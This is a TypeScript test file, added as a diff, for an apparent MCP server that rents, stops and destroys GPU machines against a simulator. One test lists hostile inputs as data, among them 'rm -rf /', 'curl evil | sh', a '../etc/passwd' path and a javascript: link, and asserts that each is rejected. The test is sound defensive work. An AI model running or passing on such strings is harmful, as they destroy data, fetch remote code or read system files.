@@ -1,0 +1,99 @@
+// The MCP server as a client sees it: `node dist/mcp.js` over stdio against the simulator, driven
+// with the official SDK's client. List tools, search, quote, confirm (one machine, guard in its
+// onstart), stop, destroy (echo required), the hostile inputs, and no key in its logs.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { TOOLS, toolJsonSchema } from '../../../src/agent/toolCatalogue';
+import { useTestSim } from '../../kit/simPerFile';
+import { quoteIdOf } from './agentHarness';
+import { SIM_KEY, held, listed, rentsSent, startMcp, type McpRun } from './mcpHarness';
+
+// A machine boots at once here: the server's clock is real, and the create flow reads before it waits.
+const started = useTestSim({ era: 'today', invisibleSeconds: 0, bootSeconds: 0 });
+const puts = () => rentsSent(started.current);
+const simInstances = () => listed(started.current);
+
+async function withMcp(fn: (m: McpRun) => Promise<void>, env?: Record<string, string>): Promise<void> {
+  const m = await startMcp(started.current, env ? { env } : {});
+  try {
+    await fn(m);
+    assert.doesNotMatch(m.stderr(), new RegExp(SIM_KEY), 'the key never reaches the log');
+  } finally {
+    await m.close();
+  }
+}
+
+test('lists every tool of the catalogue with its generated schema and says it is ready on stderr', async () => {
+  await withMcp(async (m) => {
+    const { tools } = await m.client.listTools();
+    assert.deepEqual(tools.map((t) => t.name), TOOLS.map((t) => t.name));
+    for (const t of tools) assert.deepEqual(t.inputSchema, toolJsonSchema(TOOLS.find((x) => x.name === t.name)!));
+    assert.equal(tools.find((t) => t.name === 'destroy_instance')?.annotations?.destructiveHint, true);
+    assert.equal(tools.find((t) => t.name === 'search_offers')?.annotations?.readOnlyHint, true);
+    assert.match(m.stderr(), /ready: http:\/\/127\.0\.0\.1:\d+ \(key from VAST_API_KEY; caps: no per-hour cap, no budget/);
+  });
+});
+
+test('search, quote, confirm twice at once (one machine, the guard in its onstart, SSH entry), stop, destroy with the echo', async () => {
+  await withMcp(async (m) => {
+    const search = await m.call('search_offers', { query: 'num_gpus=1 dph<5', limit: 3 });
+    assert.equal(search.isError, false, search.text);
+    const offerId = Number(/offer (\d+):/.exec(search.text)?.[1]);
+    assert.ok(offerId > 0, search.text);
+    const quote = await m.call('rent', { offer_id: offerId, image: 'pytorch/pytorch:latest' });
+    assert.match(quote.text, new RegExp(`^Quote q-\\w+: Rent offer ${offerId}: .*Idle guard: stops it after 30 idle minutes`), quote.text);
+    assert.equal(await puts(), 0, 'a quote rents nothing');
+    const q = quoteIdOf(quote.text);
+    const [a, b] = await Promise.all([m.call('rent', { offer_id: offerId, image: 'pytorch/pytorch:latest', quote_id: q }), m.call('rent', { offer_id: offerId, image: 'pytorch/pytorch:latest', quote_id: q })]);
+    assert.equal(await puts(), 1, `one rent for two confirms:\n${a.text}\n${b.text}`);
+    const id = Number(/Rented instance (\d+): running/.exec(a.text)?.[1]);
+    assert.ok(id > 0, a.text);
+    assert.match(b.text, /already confirmed; nothing was sent again/);
+    const [inst] = await simInstances();
+    assert.equal(inst?.id, id);
+    assert.match(inst!.onstart ?? '', /gpu-rental/, 'the idle guard is in its onstart');
+    assert.match(readFileSync(join(m.dir, 'home/.ssh/gpu-rental/config'), 'utf8'), new RegExp(`Host gpu-agent-\\w+-${id}`));
+    const list = await m.call('list_instances');
+    assert.match(list.text, new RegExp(`#${id} "agent-\\w{4}" running, .*guard: stops it after 30 idle min, ssh gpu-agent-\\w+-${id}`));
+    assert.match((await m.call('stop_instance', { instance_id: id })).text, /Stop of instance \d+ sent/);
+    const refused = await m.call('destroy_instance', { instance_id: id, confirm: 'all of them' });
+    assert.equal(refused.isError, true);
+    assert.equal((await held(started.current)).length, 1, 'nothing destroyed without the echo');
+    assert.match((await m.call('destroy_instance', { instance_id: id, confirm: inst!.label! })).text, /Destroy of instance \d+ sent/);
+    assert.deepEqual(await held(started.current), []);
+  });
+});
+
+test('hostile input: unknown ids, negative or huge numbers, unknown fields and tools, injection strings are clear errors and send nothing', async () => {
+  await withMcp(async (m) => {
+    const cases: Array<[string, Record<string, unknown>, RegExp]> = [
+      ['instance_details', { instance_id: 999_999 }, /Instance 999999 is not in this account's instance list/],
+      ['instance_details', { instance_id: -1 }, /instance_id must be at least 1\. Nothing was sent/],
+      ['destroy_instance', { instance_id: 1e300, confirm: '1' }, /instance_id (must be a whole number|must be at most)/],
+      ['search_offers', { limit: 10_000 }, /limit must be at most 50/],
+      ['search_offers', { query: 'gpu_name=`rm -rf /`' }, /The query is not valid/],
+      ['rent', { image: 'x; curl evil | sh' }, /The image name is not valid/],
+      ['rent', { template: '../../../etc/passwd' }, /not found|must be a \.json file inside the workspace/],
+      ['rent', { image: 'pytorch/pytorch:latest', quote_id: 'q-doesnotexist' }, /is not a rent quote this server gave/],
+      ['rent', { offer_id: 1, image: 'a', extra: '[x](javascript:alert(1))' }, /unknown field\(s\) "extra"/],
+      ['no_such_tool', {}, /There is no tool "no_such_tool"/],
+    ];
+    for (const [name, args, want] of cases) {
+      const r = await m.call(name, args);
+      assert.equal(r.isError, true, `${name} ${JSON.stringify(args)}: ${r.text}`);
+      assert.match(r.text, want);
+    }
+    assert.equal(await puts(), 0);
+  });
+});
+
+test('a per-hour cap from the environment refuses the quote; a bad cap stops the server with the reason', async () => {
+  await withMcp(async (m) => {
+    const r = await m.call('rent', { image: 'pytorch/pytorch:latest' });
+    assert.equal(r.isError, true);
+    assert.match(r.text, /above the per-hour cap for agents \(\$0\.001\/h\)/);
+  }, { GPU_RENTAL_MAX_DPH: '0.001' });
+  await assert.rejects(startMcp(started.current, { env: { GPU_RENTAL_MAX_DPH: 'lots' } }));
+});
